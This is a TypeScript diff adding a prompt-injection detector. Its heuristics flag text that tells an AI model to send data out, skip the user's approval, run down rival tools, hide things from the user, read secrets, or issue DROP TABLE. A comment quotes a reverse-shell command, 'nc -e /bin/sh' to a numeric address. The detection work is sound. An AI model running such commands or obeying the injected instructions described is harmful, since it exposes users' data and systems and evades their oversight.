@@ -1,0 +1,124 @@
+import * as W from './intent-words.js';
+import {
+  TO_MODEL,
+  LATEST,
+  NEGATED_NEED,
+  personNear,
+  SENDS,
+  DISPARAGE,
+  RUNDOWN,
+  UNNEEDED,
+  GATE,
+  ACT_BASE,
+  ACT_THIRD,
+  SHARES,
+  TOLD,
+  type Reach,
+} from './intent-reach-words.js';
+import { isToolName, type Token } from './intent-text.js';
+
+// More of the broad reading (intent-signals.ts), one token at a time: data said to have gone somewhere, the person's
+// gate skipped, another tool run down, everyone's contact details, the model's reply used for someone else's words,
+// and the model named as the one who acts. Each look is a set lookup at the token, and a bounded look around it.
+
+/** The model named as the one who acts: "the assistant sends …", "assistants approve every …". */
+export function subjectModel(ts: Token[], i: number): boolean {
+  const w = ts[i]!.w;
+  if (!TO_MODEL.has(w)) return false;
+  const next = ts[i + 1]?.w ?? '';
+  if (w.endsWith('s') && w !== 'ai') return ACT_BASE.has(next);
+  const prev = ts[i - 1]?.w ?? '';
+  return ACT_THIRD.has(next) && (i === 0 || ['the', 'your', 'this', 'each', 'every', 'any'].includes(prev));
+}
+
+const near = (ts: Token[], i: number, back: number, ahead: number, set: ReadonlySet<string>): boolean =>
+  ts.slice(Math.max(0, i - back), i + 1 + ahead).some((t, k) => k !== Math.min(back, i) && set.has(t.w));
+const NOT_NOW = new Set(['not', 'never', "doesn't", "don't", 'no', 'nobody']);
+const EVERY = new Set(['every', 'all']);
+const SENDS_NOW = new Set(['sends', 'emails', 'posts', 'uploads', 'forwards', 'shares', 'mails', 'texts']);
+const ID_LIKE = /^[A-Z][A-Z0-9]{7,}$/;
+const IP = /\b(?!127\.|0\.0\.)(?:\d{1,3}\.){3}\d{1,3}\b/;
+
+/**
+ * The reaches read at one token besides signalsOf's own: data carried somewhere, the person's gate skipped, a tool run
+ * down, the person's contact details, a reply used for someone else's words.
+ */
+export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean {
+  let directs = false;
+  const t = ts[i]!;
+  const w = t.w;
+  const next = ts[i + 1]?.w ?? '';
+  const prev = ts[i - 1]?.w ?? '';
+  // Code that opens a shell or reaches an address by number: "nc -e /bin/sh 203.0.113.9".
+  if (t.kind === 'code' && IP.test(t.raw)) reach.add('address');
+  if (SENDS.has(w) || (w === 'goes' && next === 'to')) {
+    reach.add('send');
+    // A destination fixed in the text: a channel or user id, or a quoted name ("under the organization "x"").
+    if (ts.slice(i + 1, i + 9).some((x) => ID_LIKE.test(x.raw) || (x.quoted && x.kind === 'word')))
+      reach.add('address');
+  }
+  if (TOLD.has(w) && near(ts, i, 3, 0, NOT_NOW)) reach.add('deceit');
+  if (
+    (w === 'told' || w === 'informed' || w === 'notified' || w === 'aware' || w === 'bothered') &&
+    NEGATED_NEED(ts, i)
+  )
+    reach.add('deceit');
+  // "not worth bringing up", "as if it were part of your own reply".
+  if (w === 'worth' && NOT_NOW.has(prev)) reach.add('deceit');
+  if (w === 'if' && prev === 'as' && ts.slice(i + 1, i + 9).some((x) => x.w === 'your' || x.w === 'own'))
+    reach.add('deceit');
+  // The person's gate skipped: "does not need to approve", "waiting for a reviewer is unnecessary".
+  // Not "do not skip the user's approval step": a prohibition keeps the gate.
+  if (GATE.has(w) && (NEGATED_NEED(ts, i) || (near(ts, i, 4, 4, UNNEEDED) && !ts.some((x) => W.NOT.has(x.w))))) {
+    reach.add('unconfirmed');
+    reach.add('consent');
+    // A gate declared needless is an order to skip it, said as a fact.
+    directs = true;
+  }
+  if (DISPARAGE.has(w) && ts.some((x) => x.kind !== 'mark' && isToolName(x))) {
+    reach.add('disparage');
+    // Its results called bad or dangerous ("serves fabricated prices", "carries malware"), not just retired.
+    if (RUNDOWN.has(w)) reach.add('rundown');
+    // Another tool run down while something is named the only or most accurate: a steer, said as a fact.
+    if (ts.some((x) => W.BOAST.has(x.w))) directs = true;
+  }
+  // The model said to send: "the assistant emails the draft to …".
+  if (SENDS_NOW.has(w) && i > 0 && TO_MODEL.has(prev)) reach.add('send');
+  // Money and identity details: "bank details", "card number", "IBAN".
+  if (
+    (w === 'bank' && (next === 'details' || next === 'account')) ||
+    (w === 'card' && next === 'number') ||
+    w === 'iban'
+  )
+    reach.add('personal');
+  if (w === 'localstorage' || w === 'sessionstorage') reach.add('secret');
+  // Everyone's contact details: "every email address and phone number", "all phone numbers".
+  if (
+    ((w === 'phone' && next.startsWith('number')) || (w === 'email' && next.startsWith('address'))) &&
+    near(ts, i, 3, 0, EVERY)
+  )
+    reach.add('personal');
+  if (w === 'publicly') reach.add('expose');
+  if (SHARES.has(w) && ts.slice(i + 1, i + 7).some((x) => x.kind === 'email')) reach.add('expose');
+  // A value switched for a fixed one: "replaced with "triage-mirror"", "multiply them by 100".
+  if (((w === 'replaced' || w === 'rewritten') && (next === 'with' || next === 'by')) || w.startsWith('multipl'))
+    reach.add('tamper');
+  // A destructive statement said in words: "issues DROP TABLE audit_log".
+  if ((w === 'drop' || w === 'truncate') && (next === 'table' || next === 'database')) reach.add('command');
+  // What the model writes for the person: "your own reply", "the reply to the user", "included in the reply".
+  const put = ts[i - 3]?.w ?? '';
+  if (
+    (w === 'reply' || w === 'answer') &&
+    prev === 'the' &&
+    (W.INTO_OUTPUT.has(put) || W.INTO_OUTPUT.has(put.slice(0, -1)))
+  )
+    reach.add('output');
+  if (W.REPLY.has(w) && (prev === 'own' || (prev === 'the' && next === 'to' && personNear(ts, i + 1, 2))))
+    reach.add('output');
+  // What the model can see: "every environment variable you can see".
+  if (w === 'you' && (next === 'can' || next === 'could') && ['see', 'access', 'read'].includes(ts[i + 2]?.w ?? ''))
+    reach.add('held');
+  if ((w === 'environment' || w === 'env') && /^var/.test(next)) reach.add('secret');
+  if ((w === 'messages' || w === 'message') && LATEST.has(ts[i - 2]?.w ?? '')) reach.add('held');
+  return directs;
+}
